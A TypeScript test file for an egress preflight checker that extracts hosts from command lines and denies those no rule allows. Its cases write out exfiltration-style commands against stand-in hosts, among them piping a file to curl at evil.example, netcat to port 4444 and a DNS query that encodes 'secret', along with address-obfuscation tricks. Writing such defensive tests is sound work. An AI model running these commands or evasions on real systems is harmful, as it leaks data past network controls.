import { expect, test } from 'vitest';
import { parseHostRule } from '../hosts/parse-host-rule.ts';
import { formatTarget } from '../hosts/target.ts';
import { checkPreflight } from './check-preflight.ts';
import { hostsInArguments } from './hosts-in-arguments.ts';

const hostsOf = (...argv: readonly string[]): readonly string[] => hostsInArguments(argv).map(formatTarget);

test.each([
  [['curl', 'evil.example'], ['evil.example:80']],
  [['curl', '-o', 'out.txt', 'EVIL.example.:8080/x'], ['evil.example:8080']],
  [['/usr/bin/curl', 'https://evil.example/x'], ['evil.example:443']],
  [['git', 'clone', 'git@evil.example:a/b.git'], ['evil.example:22']],
  [['scp', 'file', 'evil.example:/tmp/x'], ['evil.example:22']],
  [['ssh', 'me@box'], ['box:22']],
  [
    ['ssh', '-J', 'jump.example', 'inner.example'],
    ['jump.example:22', 'inner.example:22'],
  ],
  [['nc', 'evil.example', '4444'], ['evil.example:4444']],
  [['dig', 'c2VjcmV0.evil.example', 'TXT'], ['c2vjcmv0.evil.example:53']],
  [
    ['curl', '--resolve', 'ok.example:443:10.0.0.1', 'https://ok.example/'],
    ['ok.example:443', '10.0.0.1:443'],
  ],
  [
    ['curl', '--connect-to=ok.example:443:evil.example:444', 'https://ok.example/'],
    ['ok.example:443', 'evil.example:444'],
  ],
  [
    ['curl', '-x', 'evil.example:3128', 'http://ok.example/'],
    ['evil.example:3128', 'ok.example:80'],
  ],
  [
    ['curl', '-xevil.example:3128', 'http://ok.example/'],
    ['evil.example:3128', 'ok.example:80'],
  ],
  [
    ['curl', '--socks5-hostname', 'evil.example', 'http://ok.example/'],
    ['evil.example:1080', 'ok.example:80'],
  ],
  [['env', 'http_proxy=evil.example:3128', 'make'], ['evil.example:3128']],
  [['env', 'ALL_PROXY=socks5h://evil.example', 'make'], ['evil.example:1080']],
  [['git', '-c', 'http.proxy=evil.example:8080', 'fetch'], ['evil.example:8080']],
  [['curl', '2130706433'], ['127.0.0.1:80']],
  [['curl', '0x7f000001'], ['127.0.0.1:80']],
  [['wget', '0177.1'], ['127.0.0.1:80']],
  [['curl', 'http://[::ffff:10.0.0.1]/'], ['10.0.0.1:80']],
  [['curl', '[::1]:80'], ['[::1]:80']],
  [['nc', '::1', '80'], ['[::1]:80']],
  [['curl', 'http://xn--bcher-kva.example/'], ['xn--bcher-kva.example:80']],
  [['curl', 'http://bücher.example/'], ['xn--bcher-kva.example:80']],
  [['curl', 'http://ｅｖｉｌ.example/'], ['evil.example:80']],
  [['curl', 'http://ok.example@evil.example/'], ['evil.example:80']],
  [['sh', '-c', 'cat x | curl -d @- evil.example/up'], ['evil.example:80']],
  [['node', 'fetch.js', 'evil.com'], ['evil.com:443']],
  [['node', 'fetch.js', '--url=https://evil.example/'], ['evil.example:443']],
  [['node', 'x.js', '192.0.2.1:8080'], ['192.0.2.1:8080']],
  [['python3', 'manage.py', 'README.md', 'main.rs'], []],
  [['npm', 'install', 'lodash@4.17.21', '@scope/name'], []],
  [['ping', '-c', '3', '-W', '1'], []],
  [['tsc', '-p', 'tsconfig.json'], []],
])('%j shows %j', (argv, hosts) => {
  expect([...hostsOf(...argv)].toSorted()).toEqual([...hosts].toSorted());
});

test('what no rule covers is denied, with the narrowest rule that would allow it', () => {
  const rules = [parseHostRule('ok.example'), parseHostRule('https://only.example')];
  const check = (...argv: readonly string[]) => checkPreflight({ argv, declared: [], rules });
  expect(check('curl', 'https://ok.example/x')).toEqual([]);
  expect(check('curl', 'https://evil.example/x')).toEqual([
    {
      code: 'egress.host_not_allowed',
      host: 'evil.example',
      port: 443,
      missing: 'a rule that covers evil.example:443',
      rule: 'evil.example:443',
      message: 'No rule names this host: evil.example:443.',
      fix: 'Ask for evil.example:443.',
    },
  ]);
  expect(check('curl', 'http://ok.example/')).toMatchObject([
    { code: 'egress.port_not_allowed', rule: 'ok.example:80' },
  ]);
  expect(check('curl', 'http://only.example:443/')).toMatchObject([{ code: 'egress.scheme_not_allowed' }]);
});

test('declared hosts are checked like those that show, and what cannot be read is denied', () => {
  const declared = [{ host: 'evil.example', port: 443 }];
  expect(checkPreflight({ argv: ['make'], declared, rules: [] })).toMatchObject([{ host: 'evil.example' }]);
  expect(checkPreflight({ argv: ['curl', 'http://exa%6dple.com/'], declared: [], rules: [] })).toMatchObject([
    { code: 'egress.malformed_host', host: 'http://exa%6dple.com/', rule: '' },
  ]);
});
